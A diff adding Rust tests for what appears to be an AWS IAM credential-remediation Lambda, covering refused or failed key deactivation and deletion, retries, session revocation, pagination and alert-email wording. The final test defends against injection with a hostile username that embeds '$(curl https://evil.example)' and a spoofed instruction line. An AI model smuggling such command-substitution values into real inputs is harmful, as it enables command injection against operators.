+        let tried = vec![refused(scene.off(&made), 403), refused(scene.deleted(&made), 403), scene.listed(kind)];
+        ran.is_error(Violation, &[Failed], &calls([tried, asked, vec![publish()]]));
+        let noun = kind.words().to_lowercase().replace(' ', "-");
+        let (off, gone) = (format!("aws iam update-{noun} --user-name"), format!("aws iam delete-{noun} --user-name"));
+        ran.mail_says(&["may work: new", "--status Inactive", &off, &gone, "Lambda tries again"]);
+        scene.ended(&made, Some("Active")).await;
+
+        assert_eq!(outcome(&scene.stage.run(&process, &made.event).await), Reverted);
+        scene.ended(&made, None).await;
+    }
+}
+
+#[tokio::test]
+async fn in_quarantine_a_refused_deactivation_is_a_failure() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    scene.deny("UpdateAccessKey");
+    let ran = scene.run_with(QUARANTINE, &made.event).await;
+    let tried = [refused(scene.off(&made), 403), scene.listed(KEY), last_use(&made), publish()];
+    ran.is_error(Violation, &[Failed], &tried);
+    ran.mail_does_not_say(&["delete-access-key"]);
+    scene.ended(&made, Some("Active")).await;
+}
+
+#[tokio::test]
+async fn a_refused_deletion_is_contained_and_tried_again() {
+    for kind in Kind::ALL {
+        let scene = Scene::new().await;
+        let (made, process) = (scene.make(kind).await, scene.process(&[]));
+        scene.deny(&format!("Delete{}", kind.api_name()));
+        let ran = scene.stage.run(&process, &made.event).await;
+        let rest = vec![refused(scene.deleted(&made), 403), scene.listed(kind), publish()];
+        ran.is_error(Violation, &[Contained], &calls([scene.struck(&made), rest]));
+        scene.ended(&made, Some("Inactive")).await;
+        let retry = scene.stage.run(&process, &made.event).await;
+        let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
+        retry.is(Violation, &[Reverted], &calls([scene.struck(&made), rest]));
+        scene.ended(&made, None).await;
+    }
+}
+
+#[tokio::test]
+async fn where_sessions_cannot_be_revoked_the_key_waits_for_the_retry() {
+    for (settings, made_now) in [(&[][..], true), (QUARANTINE, true), (&[][..], false)] {
+        let scene = Scene::new().await;
+        let made = scene.new_or_activated(KEY, made_now).await;
+        Client::new(&scene.holder(&made.id).await).list_users().send().await.unwrap();
+        scene.deny("PutUserPolicy");
+        let ran = scene.run_with(settings, &made.event).await;
+        assert_eq!(outcome(&ran), Failed);
+        assert!(ran.handled.error.is_some());
+        ran.mail_says(&["sessions live on: ", "aws iam put-user-policy --user-name", "End them now"]);
+        scene.ended(&made, Some("Inactive")).await;
+        assert_eq!(scene.session_policy().await, None);
+
+        let retry = scene.stage.run(&scene.late_process(settings), &made.event).await;
+        assert_eq!(retry.handled.error, None);
+        assert!(scene.session_policy().await.is_some());
+        let ends = if made_now && settings.is_empty() { None } else { Some("Inactive") };
+        scene.ended(&made, ends).await;
+    }
+}
+
+#[tokio::test]
+async fn where_the_last_use_cannot_be_read_the_key_waits_for_the_retry() {
+    let scene = Scene::new().await;
+    let (made, process) = (scene.make(KEY).await, scene.process(&[]));
+    scene.fail("GetAccessKeyLastUsed", "InternalFailure", 500, 3);
+    let ran = scene.stage.run(&process, &made.event).await;
+    let failed = refused(last_use(&made), 500);
+    let tried = [scene.off(&made), failed.clone(), failed.clone(), failed, scene.listed(KEY), publish()];
+    ran.is_error(Violation, &[Contained], &tried);
+    ran.mail_says(&["Whether the key was used is not known"]);
+    scene.ended(&made, Some("Inactive")).await;
+    assert_eq!(outcome(&scene.stage.run(&process, &made.event).await), Reverted);
+    scene.ended(&made, None).await;
+}
+
+#[tokio::test]
+async fn what_cannot_be_read_again_is_never_called_reverted() {
+    let scene = Scene::new().await;
+    for is_new in [true, false] {
+        let made = scene.new_or_activated(SshPublicKey, is_new).await;
+        scene.deny("ListSSHPublicKeys");
+        let ran = scene.run(&made.event).await;
+        assert!(ran.handled.error.is_some());
+        assert_eq!(outcome(&ran), Failed);
+        // Activated, it is read first, and then nothing is done.
+        scene.ended(&made, if is_new { None } else { Some("Active") }).await;
+    }
+}
+
+#[tokio::test]
+async fn lost_answers_change_nothing() {
+    let scene = Scene::new().await;
+    for action in ["UpdateSSHPublicKey", "DeleteSSHPublicKey"] {
+        let made = scene.make(SshPublicKey).await;
+        scene.stage.inject(Fault { after: true, ..Fault::new("", action, "InternalError") });
+        let ran = scene.run(&made.event).await;
+        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted), "{action}");
+        scene.ended(&made, None).await;
+    }
+    let made = scene.make(SshPublicKey).await;
+    scene.stage.inject(Fault { after: true, times: 3, ..Fault::new("", "UpdateSSHPublicKey", "InternalError") });
+    let ran = scene.run_with(QUARANTINE, &made.event).await;
+    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
+    ran.mail_says(&["closed: new", "shut off all the same"]);
+    scene.ended(&made, Some("Inactive")).await;
+}
+
+#[tokio::test]
+async fn a_deactivation_that_takes_too_long_is_told_in_time_and_as_what_it_is() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    let slow = Fault { code: None, times: 9, delay_seconds: 8.0, ..Fault::new("", "UpdateAccessKey", "") };
+    scene.stage.inject(slow);
+    let time = Duration::from_secs(15);
+    let ran = scene.stage.run_within(&scene.process(&[]), &made.event, time).await;
+    assert!(ran.took < time, "{:?}", ran.took);
+    assert!(ran.handled.error.is_some());
+    ran.mail_says(&["FAILED - ACT NOW: may work: ", "the time for it ran out", &made.id]);
+    ran.mail_does_not_say(&["nothing was changed"]);
+}
+
+#[tokio::test]
+async fn all_pages_are_read() {
+    let options = StandInOptions { page_size: NonZeroU32::new(1) };
+    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
+    let scene = Scene::of(Stage::on(&stand_in).await).await;
+    // The first page holds another one.
+    for kind in [SshPublicKey, ServiceSpecificCredential] {
+        scene.make(kind).await;
+    }
+    for kind in [KEY, SshPublicKey, ServiceSpecificCredential] {
+        let made = scene.make(kind).await;
+        let ran = scene.run_with(QUARANTINE, &made.event).await;
+        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Contained), "{kind:?}");
+        let list = format!("List{}s", kind.api_name());
+        assert_eq!(actions(&ran).iter().filter(|action| **action == list).count(), 2, "{kind:?}");
+    }
+}
+
+/// A name that AWS would not take, and an id that is none: they reach no command.
+#[tokio::test]
+async fn an_attackers_text_stays_harmless_in_the_mail() {
+    let scene = Scene::new().await;
+    let hostile = "x\nLEFT FOR YOU TO DO\n$(curl https://evil.example)";
+    let response = json!({"accessKey": {"accessKeyId": format!("AKIA{hostile}"), "userName": hostile}});
+    let event = event("iam", "CreateAccessKey", json!({"userName": hostile}), response);
+    let ran = scene.run_late(&event).await;
+    let body = &ran.mail().body;
+    assert_eq!(body.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO")).count(), 1, "{body}");
+    assert!(!body.lines().any(|line| line.trim_start().starts_with("aws ") && line.contains("evil")), "{body}");
+}
